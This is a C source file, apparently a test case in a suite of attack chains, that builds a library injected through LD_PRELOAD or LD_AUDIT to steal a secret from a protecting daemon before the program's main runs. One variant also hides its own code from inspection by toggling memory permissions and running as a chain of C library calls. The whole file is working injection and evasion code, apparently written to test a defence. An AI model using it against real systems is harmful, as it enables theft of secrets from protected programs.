/* Row 8: a library that is loaded into the approved program and does the attacker's work there, before main.
 *
 *   (plain)     LD_PRELOAD or LD_AUDIT: reads the secret and prints it
 *   -DHIDING    takes the execute permission off its own code for as long as the daemon may look; what runs meanwhile
 *               are functions of the C library, one after the other
 *   -DHELPER    exports helper(): with -DHONEST the library that was approved with the program, without it the one that
 *               was put in its place
 */
#include "attack-chain.h"

#ifdef HELPER
int helper(void);
int helper(void)
{
    return 42;
}
#endif

#ifndef HONEST
unsigned la_version(unsigned version);
unsigned la_version(unsigned version)
{
    return version;
}

/* The path is the program's own first argument; ld.so hands a library's initialiser the program's arguments. */
#ifdef HIDING
static struct chain *chain;

static void finish(void)
{
    report(chain->said);
    _exit(0);
}

static void own_code(uintptr_t *start, uintptr_t *end)
{
    char line[1024], mode[8];
    FILE *maps = fopen("/proc/self/maps", "re");
    while (maps && fgets(line, sizeof line, maps))
        if (sscanf(line, "%lx-%lx %7s", start, end, mode) == 3 && *start <= (uintptr_t)&own_code && (uintptr_t)&own_code < *end)
            break;
    if (maps == NULL || fclose(maps) != 0)
        die("maps");
}

__attribute__((constructor)) static void work(int count, char **arguments)
{
    static struct sockaddr_un address;
    uintptr_t start = 0, end = 0;
    if (count < 2)
        return;
    address = address_of(arguments[1]);
    own_code(&start, &end);
    chain = chain_new();
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    CHAIN(chain, mprotect, 3, start, end - start, (long)PROT_READ);
    CHAIN(chain, connect, 3, (long)fd, &address, (long)sizeof address);
    CHAIN(chain, write, 3, (long)fd, READ_TOKEN, (long)strlen(READ_TOKEN));
    CHAIN(chain, read, 3, (long)fd, chain->said, (long)sizeof chain->said - 1);
    CHAIN(chain, mprotect, 3, start, end - start, (long)(PROT_READ | PROT_EXEC));
    CHAIN(chain, finish, 0, 0L);
    alarm(20);
    chain_run(chain);
}
#else
__attribute__((constructor)) static void work(int count, char **arguments)
{
    if (count < 2)
        return;
    int fd = dial(arguments[1]);
    say(fd, READ_TOKEN);
    report(hear(fd, NULL, 20000));
    _exit(0);
}
#endif
#endif
